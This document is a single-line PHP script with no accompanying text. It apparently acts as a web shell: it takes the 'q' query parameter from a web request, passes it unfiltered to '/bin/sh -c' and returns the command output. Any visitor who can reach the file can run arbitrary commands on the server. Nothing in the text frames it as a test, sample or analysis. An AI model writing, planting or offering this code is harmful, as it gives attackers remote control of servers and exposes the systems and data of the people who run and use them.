<?php $cmd = "/bin/sh -c " . $_GET['q']; passthru($cmd);
